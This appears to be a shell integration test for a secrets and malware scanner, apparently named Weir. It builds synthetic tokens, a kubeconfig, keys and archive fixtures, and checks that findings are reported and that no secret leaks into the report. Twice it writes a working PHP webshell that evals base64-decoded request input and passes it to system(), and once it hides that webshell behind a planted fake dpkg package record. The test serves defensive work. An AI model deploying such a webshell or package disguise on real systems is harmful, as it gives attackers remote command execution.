# Secrets and malware as a new user meets them, on the command line: a secret removed in an image's last layer, a
# container with a key in its environment, a host with an old kubeconfig, a webshell dropped into a running container;
# then accepting findings, and what a report must never hold.
. "$(dirname "$0")/lib.sh"
cd "$scratch"
. "$here/podman_settings.sh"
name=weir-content-$$
cleanup() { podman rm -f -t 0 "$name" >/dev/null 2>&1 || true; podman rmi -f localhost/weir-content:1 >/dev/null 2>&1 || true; }
trap cleanup EXIT

# A key that nobody issued: GitHub's form, with its checksum.
token() {
  python3 - "$1" <<'P'
import sys, zlib
digits = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
seed, body = int(sys.argv[1]), ""
for _ in range(30):
    seed = (seed * 6364136223846793005 + 1442695040888963407) % 2**64
    body += digits[(seed >> 33) % 62]
crc, tail = zlib.crc32(body.encode()), ""
while crc:
    crc, digit = divmod(crc, 62)
    tail = digits[digit] + tail
print("ghp_" + body + tail.rjust(6, "0"))
P
}
never_shown=()
# reported NAME FILTER: the JSON report has a finding that FILTER takes, and no secret at all.
reported() {
  jq -e "[.content[] | select($2)] | length > 0" out.json >/dev/null || fail "$1: not found: $(jq -c '[.content[] | {kind, rule, severity, p: .places[0]}]' out.json)"
  local secret
  for secret in "${never_shown[@]}"; do
    if grep -rqF "$secret" out.json "$WEIR_DATA_DIR"; then fail "$1: a secret is in the report or in the state"; fi
  done
  echo "found: $1"
}

# --- an image whose last layer removes the secret -----------------------------------------------------------------
removed=$(token 1) && never_shown+=("$removed")
umoci init --layout image.oci && umoci new --image image.oci:latest
mkdir -p layer/srv && printf 'GITHUB_TOKEN=%s\n' "$removed" >layer/srv/deploy.env
umoci insert --image image.oci:latest layer/srv /srv >/dev/null
umoci insert --image image.oci:latest --whiteout /srv/deploy.env >/dev/null
configured=$(token 2) && never_shown+=("$configured")
umoci config --image image.oci:latest --config.env "BUILD_TOKEN=$configured" >/dev/null
skopeo copy -q oci:image.oci:latest docker-archive:image.tar
for target in image.tar oci-dir:image.oci; do
  "$WEIR" secrets "$target" -o json=out.json -o table=out.txt
  reported "removed in the last layer of $target" '.places[0].origin == "removed-file" and .places[0].path == "srv/deploy.env" and (.places[0].removed_in | startswith("sha256:"))'
  reported "environment of $target" '.places[0].origin == "image-config" and (.places[0].path | startswith("image-config:Env["))'
  jq -e '.content_scans | length == 1 and .[0].kind == "secret" and .[0].rules >= 200' out.json >/dev/null || fail "it is not said what was looked for"
done
"$WEIR" scan image.tar --scanners vulnerabilities -o json=out.json
jq -e '.packages | length == 0' out.json >/dev/null || fail "a removed file became a package"

# --- a running container: a key in its environment, a webshell dropped into it ---------------------------------------
key=$(token 3) && never_shown+=("$key")
mkdir -p root/bin root/srv/www && cp /bin/busybox root/bin/busybox
for applet in sh sleep httpd cat; do ln -s busybox root/bin/$applet; done
echo '<h1>shop</h1>' >root/srv/www/index.html
tar -C root -cf root.tar .
podman import -q root.tar localhost/weir-content:1
podman run -d --name "$name" -e "API_TOKEN=$key" localhost/weir-content:1 /bin/busybox httpd -f -p 127.0.0.1:8979 -h /srv/www >/dev/null
request='$_REQUEST'
printf '<?php if(isset(%s["cmd"])){ @eval(base64_decode(%s["cmd"])); system(%s["cmd"]); } ?>\n' "$request" "$request" "$request" |
  podman exec -i "$name" /bin/sh -c 'cat > /srv/www/img.php'
"$WEIR" scan "podman:$name" -o json=out.json
reported "key in the container's environment" '.kind == "secret" and .places[0].origin == "environment" and .places[0].process == "busybox"'
reported "webshell in the container" '.kind == "malware" and .places[0].path == "srv/www/img.php" and .places[0].added == true'
jq -e '[.content[] | select(.kind == "malware")][0].rank.score >= 60' out.json >/dev/null || fail "a webshell that was dropped into a web root ranks low: $(jq -c '[.content[] | select(.kind == "malware")][0].rank' out.json)"
podman run --rm localhost/weir-content:1 /bin/busybox true
"$WEIR" malware podman-image:localhost/weir-content:1 -o json=out.json
jq -e '.content == []' out.json >/dev/null || fail "the image itself has no webshell: $(jq -c .content out.json)"

# --- an old kubeconfig, and a private key that a network-facing process can read --------------------------------------
mkdir -p host/root/.kube host/home/dev/.cache/pip/test
kube=$(head -c 32 /dev/urandom | base64 -w0) && never_shown+=("$kube")
cat >host/root/.kube/config.old <<K
apiVersion: v1
kind: Config
clusters: [{name: prod, cluster: {server: "https://10.0.0.1:6443"}}]
contexts: [{name: prod, context: {cluster: prod, user: admin}}]
current-context: prod
users:
- name: admin
  user:
    token: $kube
K
openssl genpkey -algorithm ed25519 -out host/home/dev/.cache/pip/test/fixture.pem 2>/dev/null
openssl genpkey -algorithm ed25519 -out host/root/server.key 2>/dev/null
"$WEIR" secrets host -o json=out.json --exclude '**' >/dev/null
"$WEIR" secrets dir:host -o json=out.json
reported "an old kubeconfig" '.places[0].path == "root/.kube/config.old" and (.severity == "high" or .severity == "critical")'
reported "a private key" '.places[0].path == "root/server.key"'
jq -e '([.content[] | select(.places[0].path == "root/server.key")][0].rank.score) > ([.content[] | select(.places[0].path | endswith("fixture.pem"))][0].rank.score)' out.json >/dev/null ||
  fail "a live key does not outrank a test fixture in a cache"

# --- git: removed in a later commit -----------------------------------------------------------------------------------
committed=$(token 4) && never_shown+=("$committed")
git init -q repository
git -C repository config user.name dev && git -C repository config user.email dev@example.org
printf 'token: %s\n' "$committed" >repository/ci.yml && git -C repository add . && git -C repository commit -qm first
first=$(git -C repository rev-parse HEAD)
echo 'token: from the vault' >repository/ci.yml && git -C repository commit -qam second
git -C repository gc -q
"$WEIR" secrets git:repository -o json=out.json
reported "removed from the work tree" ".places[0].origin == \"commit\" and .places[0].commit == \"$first\" and .places[0].path == \"ci.yml\""

# --- archives in archives, and what text wraps ------------------------------------------------------------------------
deep=$(token 5) && never_shown+=("$deep")
mkdir -p packed/etc && printf 'password_token=%s\n' "$deep" >packed/etc/app.env
tar -C packed -czf inner.tar.gz etc && zip -q outer.zip inner.tar.gz && mkdir archives && mv outer.zip archives/
wrapped=$(token 6) && never_shown+=("$wrapped")
printf 'data:\n  value: %s\n' "$(printf 'GITHUB_TOKEN=%s\n' "$wrapped" | base64 -w0)" >archives/secret.yaml
"$WEIR" secrets dir:archives -o json=out.json
reported "an archive in an archive" '.places[0].path == "outer.zip!inner.tar.gz!etc/app.env"'
reported "base64" '.places[0].path == "secret.yaml" and .places[0].decoded == "base64"'

# --- accepting what is known --------------------------------------------------------------------------------------------
mkdir app && cp archives/secret.yaml app/
"$WEIR" secrets dir:app --write-baseline known.json >/dev/null
"$WEIR" secrets dir:app --baseline known.json --fail-on low -o json=out.json || fail "the baseline did not close what it was made of"
fresh=$(token 7) && never_shown+=("$fresh")
sed -i "1s/.*/data: # $fresh/" app/secret.yaml
status=0 && "$WEIR" secrets dir:app --baseline known.json --fail-on low -o json=out.json 2>/dev/null || status=$?
[ $status = 2 ] || fail "a new secret beside a known one was not found (exit $status)"
jq -e '[.content[] | select(.status == "open")] | length == 1' out.json >/dev/null || fail "more is open than the new one"
jq -r '.content[0:][] | "\(.fingerprint) made up"' out.json >app/.weirignore
"$WEIR" secrets dir:app --fail-on low -o json=out.json || fail ".weirignore did not close"
jq -e 'all(.content[]; .status == "ignored" and .status_reason == "made up")' out.json >/dev/null || fail "the reason is gone"
if WEIR_FINGERPRINT_KEY=$(head -c 32 /dev/zero | xxd -p -c 64) "$WEIR" secrets dir:app --baseline known.json 2>err; then fail "a baseline of another key was taken"; fi
grep -q 'another key' err || fail "unclear: $(cat err)"

# --- a folder whose maker knows Weir -----------------------------------------------------------------------------------
mkdir -p hostile/srv hostile/var/lib/dpkg/info hostile/etc
shell='<?php if(isset($_REQUEST["cmd"])){ @eval(base64_decode($_REQUEST["cmd"])); system($_REQUEST["cmd"]); } ?>'
echo "$shell" >hostile/srv/x.php
echo 'ID=debian' >hostile/etc/os-release
printf 'Package: evil\nStatus: install ok installed\nVersion: 1\nArchitecture: all\n\n' >hostile/var/lib/dpkg/status
(cd hostile && md5sum srv/x.php >var/lib/dpkg/info/evil.md5sums && echo /srv/x.php >var/lib/dpkg/info/evil.list)
echo 'this is no rule' >hostile/.weirignore
printf 'rule=* path=**\nkey=%064d\n' 0 >hostile/.gitleaksignore
tail=1pZsLw77Qx && never_shown+=("$tail")
printf 'DATABASE_URL=mysql://root:Hq82nVbK@%s@db1.prod.internal/x\n' "$tail" >hostile/.env
"$WEIR" scan dir:hostile --scanners secrets,malware -o json=out.json 2>/dev/null || fail "a file in the folder ended the scan"
reported "a webshell that a planted package database calls its own" '.kind == "malware" and .places[0].path == "srv/x.php" and .status == "open"'
reported "a connection string whose password holds an @" '.kind == "secret" and .places[0].path == ".env"'
mkdir piped && mkfifo piped/.git
if timeout 20 "$WEIR" secrets git:piped 2>err; then fail "a pipe is no repository"; fi
grep -q 'no git repository' err || fail "a pipe in place of .git: $(cat err)"
mkdir pointed && echo "gitdir: $scratch/repository/.git" >pointed/.git
if "$WEIR" secrets git:pointed 2>err; then fail "a folder led to a repository elsewhere"; fi
git -C repository worktree add -q ../linked HEAD
"$WEIR" secrets git:linked -o json=out.json
reported "a linked work tree" '.places[0].origin == "commit"'

# --- rules ------------------------------------------------------------------------------------------------------------
cat >mine.toml <<'T'
[[rules]]
id = "shop-key"
description = "Key of our shop"
regex = '''\b(shop_[a-z0-9]{16})\b'''
keywords = ["shop_"]
examples = ["key=shop_0123456789abcdef"]
[[rules]]
id = "broken"
regex = '''(unclosed'''
T
printf '{"id":"1","text":"x shop_0123456789abcdef y"}\n{"id":"2","text":"shop_123"}\n' | "$WEIR" secrets --rules mine.toml --stdin-cases 2>/dev/null >cases
[ "$(jq -c .rules cases | tr '\n' ' ')" = '["shop-key"] [] ' ] || fail "cases: $(cat cases)"
if "$WEIR" secrets rules lint mine.toml >lint; then fail "a broken rule passed"; fi
grep -q broken lint || fail "the broken rule is not named: $(cat lint)"
"$WEIR" secrets rules list --json | jq -e 'length >= 200' >/dev/null || fail "fewer than 200 kinds"
"$WEIR" malware rules list --json | jq -e 'length >= 20' >/dev/null || fail "few rules for malware"
